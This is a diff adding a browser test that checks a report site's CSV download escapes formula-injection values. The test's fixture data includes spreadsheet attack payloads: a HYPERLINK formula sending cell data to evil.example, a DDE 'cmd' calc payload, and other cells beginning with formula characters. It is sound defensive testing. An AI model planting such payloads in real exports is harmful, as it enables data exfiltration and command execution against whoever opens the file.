@@ -68,6 +68,41 @@ test('a report whose every value is markup shows it as text and runs none of it'
   }
 });
 
+test('the CSV download quotes every cell and runs no formula a model answered', { timeout: 60_000 }, async () => {
+  const browser = await launch();
+  try {
+    const page = await (await browser.newContext({ acceptDownloads: true })).newPage();
+    const steered = [
+      { model_id: '=HYPERLINK("http://evil.example/?"&A1,"Open")', image_index: 1, output_json: '+1+cmd|\' /C calc\'!A0',
+        error: 'line one\rline two', passed: false, fields_total: 2, fields_matched: 1, cost: '0.001', response_time_ms: 10 },
+      { model_id: 'm/two', image_index: 1, output_json: '@SUM(1,2)', error: '-2+3', passed: true,
+        fields_total: 2, fields_matched: 2, cost: '0.002', response_time_ms: 20 },
+      { model_id: 'm/one', image_index: 1, output_json: '\t=1+1', error: null, passed: true,
+        fields_total: 2, fields_matched: 2, cost: '0.003', response_time_ms: 30 },
+    ];
+    const report = { ...forged, name: 'csv', documents: [{ index: 1, name: '=cmd()', expected: { total: 1 } }] };
+    await page.route('**/rest/v1/rpc/read_report_runs*', (route) => route.fulfill({ json: steered }));
+    await page.route('**/rest/v1/rpc/read_report', (route) => route.fulfill({ json: report }));
+    await page.route('**/rest/v1/rpc/read_report?*', (route) => route.fulfill({ json: report }));
+    await page.goto(`${site}/report/${REPORT}?share=anything`);
+    await page.waitForSelector('#ranking tbody tr');
+    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
+    const csv = await (await download.createReadStream()).toArray().then((parts) => Buffer.concat(parts).toString('utf8'));
+    const rows = csv.split('\r\n');
+    assert.equal(rows.length, 4, 'a header and three runs, a CR inside a cell ending no row');
+    assert.equal(rows[1], `'=cmd(),"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",false,1,2,0.001,10,"line one\rline two",'+1+cmd|' /C calc'!A0`);
+    assert.equal(rows[2], `'=cmd(),m/two,true,2,2,0.002,20,'-2+3,"'@SUM(1,2)"`);
+    assert.equal(rows[3], `'=cmd(),m/one,true,2,2,0.003,30,,'\t=1+1`);
+    for (const row of rows.slice(1)) {
+      for (const cell of row.match(/("([^"]|"")*"|[^,]*)(,|$)/g).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
+        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(cell)}`);
+      }
+    }
+  } finally {
+    await browser.close();
+  }
+});
+
 test('no page of the product breaks its own Content Security Policy', { timeout: 60_000 }, async () => {
   const browser = await launch();
   try {
